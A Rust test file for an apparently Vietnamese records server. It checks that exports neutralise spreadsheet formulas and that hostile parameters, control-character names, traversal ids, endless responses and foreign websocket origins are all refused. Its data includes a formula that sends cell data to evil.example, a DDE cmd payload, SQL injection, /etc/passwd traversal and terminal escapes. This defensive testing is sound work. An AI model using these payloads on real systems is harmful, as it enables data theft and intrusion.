//! Hostile input, tried as an attacker would: exports carrying spreadsheet formulas, odd
//! values in every office query and path parameter (no 5xx, no panic, 400 with a message
//! for dates out of range), device names with terminal control characters, hamlet ids that
//! would turn a form into another route, a server answering the sync client without end,
//! and a web page of another origin opening the liveview app's websocket. Also: the server's
//! handlers reach the database only through the one blocking helper.

use std::io::Cursor;
use std::path::Path;
use std::time::{Duration, Instant};

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use reqwest::StatusCode;
use sotay::domain::*;
use sotay::protocol::*;
use sotay::sync::{Client, Options, SyncError};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::consent::{client, OfficeClient, PASSWORD, USER};
use super::exhaustion::serve;
use super::sync::{demo_reference, COMMUNE};

const BAD_DATES: &str =
    "Ngày không hợp lệ: hãy chọn ngày bắt đầu và ngày kết thúc (ngày bắt đầu không sau ngày kết thúc).";

// ---- exports ------------------------------------------------------------------------------

/// Hamlet names an office user (or an import) could give, each a formula to a spreadsheet.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tThôn tab",
    "\rThôn về đầu dòng",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_like_hamlet_names_come_out_of_csv_neutralised_and_out_of_xlsx_as_plain_strings() {
    let s = serve(|s| s).await;
    let mut r = demo_reference();
    for (i, name) in FORMULAS.iter().enumerate() {
        r.hamlets.push(Hamlet {
            id: format!("h-f{i}"),
            name: (*name).into(),
            adult_population: 100,
            baseline_signed: 7,
        });
    }
    s.state.db.put_commune(&r).unwrap();
    let o = OfficeClient::login(&s.url, USER, PASSWORD).await;
    for file in ["coverage.csv", "activity.csv"] {
        let res = o.get_raw(&format!("/office/export/{file}")).await;
        assert_eq!(res.status(), StatusCode::OK);
        let csv = res.text().await.unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .delimiter(b';')
            .flexible(true)
            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let first: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_owned()).collect();
        for name in FORMULAS {
            assert!(first.contains(&format!("'{name}")), "{file}: {name:?} in {first:?}");
            assert!(!first.iter().any(|c| c == name), "{file}: {name:?} came out as is");
        }
        // Numbers stay numbers.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .delimiter(b';')
            .flexible(true)
            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        // (The first line says the day, the second is the header.)
        // (Coverage rows end with the hamlet's code.)
        let first_data_row = reader.records().nth(2).unwrap().unwrap();
        let numbers = first_data_row.len() - usize::from(file.starts_with("coverage"));
        assert!(
            first_data_row.iter().take(numbers).skip(1).all(|c| c.replace(',', ".").parse::<f64>().is_ok()),
            "{first_data_row:?}"
        );
    }
    for file in ["coverage.xlsx", "activity.xlsx"] {
        let res = o.get_raw(&format!("/office/export/{file}")).await;
        assert_eq!(res.status(), StatusCode::OK);
        let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(res.bytes().await.unwrap().to_vec())).unwrap();
        let mut names_seen = 0;
        for sheet in book.sheet_names() {
            let formulas = book.worksheet_formula(&sheet).unwrap();
            assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{file} {sheet}: a cell is a formula");
            let cells = book.worksheet_range(&sheet).unwrap();
            for (_, _, cell) in cells.used_cells() {
                if let Data::String(text) = cell {
                    names_seen += FORMULAS.iter().filter(|n| *n == text).count();
                }
            }
        }
        assert!(names_seen >= FORMULAS.len(), "{file}: the names are there, as strings ({names_seen})");
    }
}

// ---- odd parameters ------------------------------------------------------------------------

/// Values an attacker would try in a query or a path: dates chrono can parse but not add a
/// day to, years far out, impossible days, huge and odd strings, numbers past u64.
pub fn odd_values() -> Vec<String> {
    let mut v: Vec<String> = [
        "+262142-12-01",
        "+262142-12-31",
        "-262143-01-01",
        "262143-12-31",
        "9999-12-31",
        "0000-01-01",
        "1999-12-31",
        "2101-01-01",
        "2026-02-30",
        "2026-13-01",
        "2026-1-1",
        "20261120",
        "",
        " ",
        "\u{0}",
        "'; DROP TABLE records; --",
        "../../../etc/passwd",
        "..",
        "\u{202e}txt.exe",
        "💥",
        "-1",
        "0",
        "18446744073709551616",
        "NaN",
        "1e309",
        "unit",
        "commune",
        "month",
        "year",
        "signature_help",
        "h-plei",
        "v-lan",
        "0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push("9".repeat(10_000));
    v.push("ă".repeat(5_000));
    v
}

pub fn enc(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn odd_values_in_every_office_query_and_path_parameter_never_get_a_server_error_or_a_panic() {
    let s = serve(|s| s).await;
    let o = OfficeClient::login(&s.url, USER, PASSWORD).await;
    let pages = [
        "/office",
        "/office/activity",
        "/office/print",
        "/office/export/coverage.xlsx",
        "/office/export/coverage.csv",
        "/office/export/activity.xlsx",
        "/office/export/activity.csv",
        "/office/records",
        "/office/hamlets",
        "/office/devices",
        "/office/erasure",
        "/office/audit",
    ];
    let params = ["from", "to", "preset", "q", "hamlet", "volunteer", "kind", "page", "vpage", "after", "limit"];
    let mut asked = 0;
    let check = |path: String, status: StatusCode| {
        assert!(!status.is_server_error(), "{status} for {}", &path[..path.len().min(200)]);
    };
    for page in pages {
        let mut queries: Vec<String> = Vec::new();
        for p in params {
            for v in odd_values() {
                queries.push(format!("{p}={}", enc(&v)));
            }
        }
        for v in odd_values() {
            queries.push(format!("from={0}&to={0}", enc(&v)));
        }
        // Repeated, malformed and badly encoded parameters.
        queries.extend(
            [
                "from=2026-01-01&from=2026-02-01",
                "q=%ZZ",
                "q=%FF%FE",
                "page=%00",
                "from",
                "=&&=",
                "preset=unit&from=+262142-01-01",
            ]
            .map(str::to_owned),
        );
        for q in queries {
            let path = format!("{page}?{q}");
            let res = o.get_raw(&path).await; // a panic would drop the connection and fail here
            check(path, res.status());
            asked += 1;
        }
    }
    // Path parameters.
    for v in odd_values() {
        for path in [
            format!("/office/records/{}", enc(&v)),
            format!("/office/records/{}/consent", enc(&v)),
            format!("/office/export/{}", enc(&v)),
            format!("/office/lang/{}", enc(&v)),
        ] {
            let res = o.get_raw(&path).await;
            check(path, res.status());
            asked += 1;
        }
        for path in [format!("/office/hamlets/{}", enc(&v)), format!("/office/devices/{}/revoke", enc(&v))] {
            let (status, _) = o.post(&path, &[("name", &v), ("adult_population", &v), ("baseline_signed", &v)]).await;
            check(path, status);
            asked += 1;
        }
    }
    println!("{asked} requests, none answered with a server error");
    // The dates of the issue: 400 with the message, in Vietnamese.
    for path in [
        "/office/activity?from=%2B262142-12-01",
        "/office/activity?to=%2B262142-12-31",
        "/office/print?from=%2B262142-12-01",
        "/office/export/activity.csv?to=9999-12-31",
        "/office/records?to=%2B262142-12-31",
        "/office/records?from=1999-12-31",
    ] {
        let (status, page) = o.get(path).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}");
        assert!(page.contains(BAD_DATES), "{path}: {page}");
    }
    let (status, page) = o.get("/office/activity?from=2026-01-01&from=2026-02-01").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("Địa chỉ trang có tham số không đọc được"), "{page}");
    let (status, _) = o.get("/office").await;
    assert_eq!(status, StatusCode::OK, "the server still answers");
}

// ---- names and ids --------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_device_name_with_control_or_reordering_characters_is_refused_at_enrolment() {
    let s = serve(|s| s).await;
    let enrol = |name: &'static str| {
        let (url, db) = (s.url.clone(), s.state.db.clone());
        async move {
            let code = db.new_enrol_code(COMMUNE, chrono::Duration::hours(1), chrono::Utc::now()).unwrap();
            let req = EnrolRequest { api_version: API_VERSION, code, device_name: name.into() };
            let res = client().post(format!("{url}/api/v1/enrol")).json(&req).send().await.unwrap();
            (res.status(), res.text().await.unwrap())
        }
    };
    for name in ["Máy\u{1b}[2J\u{1b}[31mđỏ", "Máy\nmới", "Máy\u{7}", "\u{202e}gnp.exe", "Máy\u{9b}31m"] {
        let (status, body) = enrol(name).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{name:?}");
        assert!(body.contains("ký tự điều khiển"), "{body}");
    }
    assert!(s.state.db.devices(COMMUNE).unwrap().is_empty());
    let (status, _) = enrol("Máy tính bảng thôn Plei Rơng (2)").await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hamlet_id_outside_the_safe_alphabet_is_refused_and_never_becomes_a_form_address() {
    let s = serve(|s| s).await;
    let o = OfficeClient::login(&s.url, USER, PASSWORD).await;
    let before = s.state.db.commune(COMMUNE).unwrap();
    for id in ["../devices/X/revoke", "h/1", "..", "h 1", "thôn-1", &"h".repeat(65)] {
        let csv = format!("ma,ten,dan_so,da_co_chu_ky\n{id},Thôn Mới,120,30\n");
        let (status, page) = o.upload("/office/hamlets/import", csv.as_bytes()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{id}");
        assert!(page.contains("Mã thôn chỉ gồm chữ không dấu, số, - hoặc _"), "{id}: {page}");
    }
    assert_eq!(s.state.db.commune(COMMUNE).unwrap(), before);
    // A hamlet stored before ids were checked is shown, with no form whose address it makes.
    let mut r = before.clone();
    r.hamlets.push(Hamlet {
        id: "../devices/X/revoke".into(),
        name: "Thôn cũ".into(),
        adult_population: 10,
        baseline_signed: 1,
    });
    s.state.db.put_commune(&r).unwrap();
    let (status, page) = o.get("/office/hamlets").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("Thôn cũ"));
    assert!(!page.contains("action=\"/office/hamlets/.."), "no form posts through the id");
    let (status, _) =
        o.upload("/office/hamlets/import", b"ma,ten,dan_so,da_co_chu_ky\nh-moi_2,Thon Moi,120,30\n").await;
    assert_eq!(status, StatusCode::OK, "a good id is taken");
}

// ---- the sync client -------------------------------------------------------------------------

/// A server that answers every request with a 200 whose body never ends (or, with a length,
/// announces 100 MB), and counts the bytes it got to send.
async fn endless_server(announce_length: bool) -> (String, tokio::task::JoinHandle<u64>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let task = tokio::spawn(async move {
        let (mut conn, _) = listener.accept().await.unwrap();
        let mut request = [0u8; 4096];
        let _ = conn.read(&mut request).await;
        let head = if announce_length {
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000000\r\n\r\n"
        } else {
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        };
        conn.write_all(head.as_bytes()).await.unwrap();
        let chunk = vec![b' '; 64 * 1024];
        let mut sent = 0u64;
        loop {
            let framed = if announce_length {
                conn.write_all(&chunk).await
            } else {
                let mut c = format!("{:x}\r\n", chunk.len()).into_bytes();
                c.extend_from_slice(&chunk);
                c.extend_from_slice(b"\r\n");
                conn.write_all(&c).await
            };
            if framed.is_err() || sent > 200 * 1024 * 1024 {
                return sent;
            }
            sent += chunk.len() as u64;
        }
    });
    (url, task)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sync_client_stops_reading_an_answer_past_its_cap() {
    for announce_length in [false, true] {
        let (url, server) = endless_server(announce_length).await;
        let options = Options { connect_timeout: Duration::from_secs(2), request_timeout: Duration::from_secs(40) };
        let c = Client::with_options(&url, &options).unwrap();
        let started = Instant::now();
        let result = c.pull(COMMUNE, "token", 0).await;
        let took = started.elapsed();
        match result {
            Err(SyncError::Protocol(why)) => assert!(why.contains("larger than"), "{why}"),
            other => panic!("expected the cap, got {other:?}"),
        }
        assert!(took < Duration::from_secs(15), "gave up after {took:?}");
        drop(c);
        let sent = tokio::time::timeout(Duration::from_secs(20), server).await.unwrap().unwrap();
        assert!(sent < 64 * 1024 * 1024, "the server got to send {sent} bytes");
    }
}

// ---- the liveview page ---------------------------------------------------------------------

/// Starts `sotay-liveview` on a free port; returns its address and the child.
#[cfg(feature = "liveview")]
fn start_liveview(db: &Path) -> (String, super::exhaustion::ChildGuard) {
    use std::io::{BufRead, BufReader};
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_sotay-liveview"))
        .args(["--db"])
        .arg(db)
        .args(["--port", "0"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let guard = super::exhaustion::ChildGuard(child);
    let url = BufReader::new(stdout)
        .lines()
        .map_while(Result::ok)
        .find_map(|l| l.strip_prefix("listening on ").map(str::to_owned))
        .expect("the liveview address");
    (url, guard)
}

/// Opens a websocket handshake with this `Origin` (none with `None`) and returns the status.
#[cfg(feature = "liveview")]
async fn handshake(url: &str, origin: Option<&str>) -> u16 {
    let host = url.trim_start_matches("http://");
    let mut conn = tokio::net::TcpStream::connect(host).await.unwrap();
    let origin = origin.map(|o| format!("Origin: {o}\r\n")).unwrap_or_default();
    let request = format!(
        "GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n{origin}\r\n"
    );
    conn.write_all(request.as_bytes()).await.unwrap();
    let mut head = [0u8; 64];
    let n = conn.read(&mut head).await.unwrap();
    let line = String::from_utf8_lossy(&head[..n]).into_owned();
    line.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("no status in {line:?}"))
}

#[cfg(feature = "liveview")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_liveview_websocket_opens_only_for_its_own_page() {
    let dir = tempfile::tempdir().unwrap();
    let (url, _child) = start_liveview(&dir.path().join("sotay.db"));
    let port = url.rsplit(':').next().unwrap();
    for origin in [
        Some("http://evil.example".to_owned()),
        Some(format!("http://evil.example:{port}")),
        Some(format!("http://localhost:{port}")),
        Some("null".to_owned()),
        Some(format!("https://127.0.0.1:{port}")),
        None,
    ] {
        assert_eq!(handshake(&url, origin.as_deref()).await, 403, "{origin:?}");
    }
    assert_eq!(handshake(&url, Some(&url)).await, 101, "its own page connects");
}

// ---- database work off the async threads ------------------------------------------------------

#[test]
fn server_handlers_reach_the_database_only_through_the_one_blocking_helper() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("crates/sotay-server/src");
    let mut files = Vec::new();
    super::common::rust_files(&root, &mut files);
    let mut checked = 0;
    for f in files {
        let text = std::fs::read_to_string(&f).unwrap();
        if !text.contains("async fn") {
            continue;
        }
        checked += 1;
        for (i, line) in text.lines().enumerate().filter(|(_, l)| !l.trim_start().starts_with("//")) {
            // The helper itself clones the handle once; nothing else touches `state.db` or
            // spawns its own blocking task.
            let helper =
                line.contains("let db = self.db.clone();") || line.contains("spawn_blocking(move || work(&db))");
            assert!(
                helper || !(line.contains("state.db.") || line.contains("spawn_blocking")),
                "{}:{}: database work outside `AppState::blocking`: {line}",
                f.display(),
                i + 1
            );
        }
    }
    assert!(checked >= 8, "the handlers' files were read ({checked})");
}
